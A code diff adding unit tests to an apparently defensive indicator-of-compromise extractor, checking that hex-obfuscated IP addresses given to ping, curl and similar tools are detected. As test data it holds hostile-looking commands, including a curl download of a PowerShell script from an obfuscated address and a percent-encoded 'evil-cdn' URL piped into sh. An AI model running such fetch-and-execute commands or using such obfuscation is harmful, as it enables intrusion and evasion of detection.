@@ -369,6 +369,35 @@ def test_numbers_that_are_no_address_give_none(text: str) -> None:
     assert _found(text, "ipv4") == set()
 
 
+@pytest.mark.parametrize(
+    ("text", "address", "raw"),
+    [
+        # SigmaHQ's "Obfuscated IP Via CLI": ping and friends read hexadecimal with inet_aton
+        ("ping 0x7f000001", "127.0.0.1", "0x7f000001"),
+        ("PING.EXE -n 2 0x51.0x04.0x7c.0x0a", "81.4.124.10", "0x51.0x04.0x7c.0x0a"),
+        ("curl -s -o a.ps1 0xC0.0xA8.1.1", "192.168.1.1", "0xC0.0xA8.1.1"),
+        ("Test-NetConnection 0x7f.1 -Port 445", "127.0.0.1", "0x7f.1"),
+    ],
+)
+def test_a_hexadecimal_address_given_to_a_network_tool(text: str, address: str, raw: str) -> None:
+    found = [m for m in IocExtractor().finditer(text) if m.type == "ipv4"]
+    assert [(m.value, m.raw) for m in found] == [(address, raw)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "mov eax, 0x7f000001",  # a constant
+        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",  # a handle
+        "ping 0x400",  # 0.0.4.0: no destination
+        "ping 0x7g000001",
+    ],
+)
+def test_hexadecimal_numbers_elsewhere_are_no_address(text: str) -> None:
+    assert _found(text, "ipv4") == set()
+    assert _found("ping 0x7f.example.com", "dns") == {"0x7f.example.com"}
+
+
 def test_a_percent_encoded_host_name_gives_the_name() -> None:
     text = "curl http://%65%76%69%6c-cdn.com/x.sh | sh"
     found = [m for m in IocExtractor().finditer(text) if m.type == "dns"]
